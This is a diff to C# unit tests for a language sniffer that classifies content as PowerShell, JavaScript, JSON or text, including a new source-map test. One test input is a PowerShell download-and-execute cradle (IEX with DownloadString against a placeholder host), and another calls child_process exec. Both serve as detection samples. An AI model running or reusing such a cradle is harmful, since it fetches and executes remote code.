@@ -34,8 +34,18 @@ public sealed class LanguageSnifferTests
     [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://a.invalid')", Language.PowerShell)]
     [InlineData("Dear reader, this is a text. It imports nothing.", Language.Text)]
     [InlineData("{\"a\": [1, 2], \"import\": \"os\"}", Language.Json)]
+    [InlineData("[1]; require('child_process').exec('x'); module.exports = [2]", Language.JavaScript)]
     public void Layers(string text, string language) =>
         LanguageSniffer.SniffLayer(Encoding.UTF8.GetBytes(text)).ShouldBe(language);
+
+    [Fact]
+    public void A_long_source_map_is_no_code()
+    {
+        string map = "{\"version\":3,\"sourcesContent\":[\"" + string.Concat(Enumerable.Repeat("const a = require('x'); ", 5_000)) + "\"]}";
+
+        LanguageSniffer.Sniff("index.js.map", Encoding.UTF8.GetBytes(map)).ShouldBe(Language.Json);
+        LanguageSniffer.Sniff("index.js.map", Encoding.UTF8.GetBytes(map + ";require('y')")).ShouldBe(Language.JavaScript);
+    }
 
     [Fact]
     public void Bytes_win_over_names()
